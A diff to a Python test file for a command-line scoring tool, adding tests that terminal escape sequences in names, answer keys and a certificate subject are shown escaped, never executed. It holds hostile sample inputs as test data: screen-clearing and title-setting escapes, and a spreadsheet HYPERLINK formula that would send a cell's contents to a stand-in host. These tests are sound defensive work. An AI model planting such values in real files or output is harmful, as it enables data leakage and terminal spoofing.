@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import datetime as dt
 import io
+import re
 import zipfile
 from pathlib import Path
 
@@ -48,7 +49,7 @@ FORMULA = '=HYPERLINK("http://x/?"&A2,"x")'
 
 
 def invoke(*args: str) -> tuple[int, str, str]:
-    result = CliRunner().invoke(app, list(args))
+    result = CliRunner().invoke(app, list(args), env={"COLUMNS": "200"})  # wide enough for a name in a table
     return result.exit_code, result.stdout, result.stderr
 
 
@@ -132,3 +133,56 @@ def test_answer_workbook_text_starting_with_a_formula_sign_reads_back_as_it_was(
     assert code == ExitCode.OK
     cell = load_workbook(out)["Results"]["B2"]
     assert (cell.value, cell.data_type) == (FORMULA, "s")
+
+
+# --- the terminal: control characters are shown, never obeyed ----------------------------------
+
+
+def squash(table: str) -> str:
+    """A table's text without borders and white space: a folded cell reads as one piece."""
+    return re.sub(r"[\s│┃]", "", table)
+
+
+ESCAPE = "ACME\x1b[2J\x1b[H Level 5"
+
+
+def test_score_table_shows_an_escape_in_the_organisation_name_instead_of_obeying_it(tmp_path: Path) -> None:
+    path = sample(tmp_path, "a.yaml", ESCAPE)
+    code, out, _ = invoke("score", str(path))
+    assert code == ExitCode.OK
+    assert "\x1b" not in out
+    assert "ACME\\x1b[2J\\x1b[H Level 5" in out
+
+
+def test_batch_table_shows_escapes_in_names(tmp_path: Path) -> None:
+    sample(tmp_path, "a.yaml", ESCAPE)
+    code, out, _ = invoke("score", str(tmp_path), "-f", "table")
+    assert code == ExitCode.OK
+    assert "\x1b" not in out and "ACME\\x1b[2J\\x1b[H Level 5" in out
+
+
+def test_error_messages_show_escapes_in_what_the_user_wrote(tmp_path: Path) -> None:
+    data = yaml.safe_load((REPO / "examples" / "cmmm-discrete-sample.yaml").read_text(encoding="utf-8"))
+    data["answers"]["strategy.9.\x1b[2J"] = "full"
+    path = write_yaml(tmp_path / "a.yaml", data)
+    code, _, err = invoke("validate", str(path))
+    assert code == ExitCode.INPUT
+    assert "\x1b" not in err and "strategy.9.\\x1b[2J" in err
+
+
+def test_every_console_makes_control_characters_visible() -> None:
+    from rich.table import Table
+    from rich.text import Text
+
+    from maturity.cli.app import err_console
+
+    console = err_console()
+    table = Table("check", "message")  # as verify shows a certificate's subject
+    table.add_row(Text("✓"), "signed by CN=\x1b]0;pwned\x07 Trusted CA")
+    with console.capture() as captured:
+        console.print(table)
+        console.print(Text("erase \x1b[2K and \x9b2J"))  # rich text built by a command, not a str
+    shown = captured.get()
+    assert not any(c in shown for c in "\x1b\x07\x9b")
+    assert "signed by CN=\\x1b]0;pwned\\x07 Trusted CA" in shown
+    assert "erase \\x1b[2K and \\x9b2J" in shown
